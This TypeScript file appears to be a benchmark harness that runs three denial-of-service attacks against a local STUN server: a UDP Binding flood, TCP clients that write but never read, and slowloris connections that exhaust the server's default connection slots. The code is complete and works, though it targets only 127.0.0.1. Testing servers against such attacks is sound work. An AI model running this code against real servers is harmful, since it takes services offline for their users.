/**
 * The attacks of issue 11 on a STUN server, run as a process of its own (so that the
 * benchmark's legitimate clients are not slowed by the attacker's own event loop), from
 * 127.0.0.1, until killed:
 * - UDP flood (finding 4): 24-byte Bindings with a zero-length CHANGE-REQUEST, as fast as sent;
 * - TCP non-readers (finding 1): connections that write Bindings and never read;
 * - TCP slowloris (finding 2): connections that declare a 2,028-byte message and send a byte a second.
 *
 *   node dist/bench/stun-attack/attacker.js PORT
 */
import dgram from 'node:dgram';
import net from 'node:net';

const port = Number(process.argv[2]);
const HOST = '127.0.0.1';
const NON_READERS = 4;
const TRICKLERS = 1100; // more than the default 1024 slots

const binding = (attributes: Buffer = Buffer.alloc(0)): Buffer => {
  const header = Buffer.alloc(20);
  header.writeUInt16BE(0x0001, 0);
  header.writeUInt16BE(attributes.length, 2);
  header.writeUInt32BE(0x2112a442, 4);
  for (let i = 8; i < 20; i++) header[i] = Math.floor(Math.random() * 256);
  return Buffer.concat([header, attributes]);
};

// UDP flood: a batch per turn of the event loop.
const udp = dgram.createSocket('udp4');
const flood = binding(Buffer.from([0x00, 0x03, 0x00, 0x00])); // CHANGE-REQUEST, length 0
udp.bind(0, HOST, () => {
  const burst = (): void => {
    for (let i = 0; i < 64; i++) udp.send(flood, port, HOST);
    setImmediate(burst);
  };
  burst();
});

// Non-readers: write 64 KiB of Bindings whenever the socket takes more, never read.
const chunk = Buffer.concat(Array.from({ length: 3276 }, () => binding()));
function nonReader(): void {
  const socket = net.connect(port, HOST);
  socket.pause();
  socket.on('error', () => undefined);
  socket.on('close', () => setTimeout(nonReader, 100));
  const write = (): void => { while (!socket.destroyed && socket.write(chunk)); };
  socket.on('connect', write);
  socket.on('drain', write);
}
for (let i = 0; i < NON_READERS; i++) nonReader();

// Slowloris: the head of a 2,028-byte message, then a byte a second; reconnect when closed.
function trickler(): void {
  const socket = net.connect(port, HOST);
  let timer: NodeJS.Timeout | undefined;
  socket.on('error', () => undefined);
  socket.on('connect', () => {
    socket.write(binding().subarray(0, 4).fill(0x07, 2, 3).fill(0xd8, 3, 4));
    timer = setInterval(() => socket.write(Buffer.from([0])), 1000);
  });
  socket.on('close', () => {
    clearInterval(timer);
    setTimeout(trickler, 100);
  });
}
for (let i = 0; i < TRICKLERS; i++) trickler();
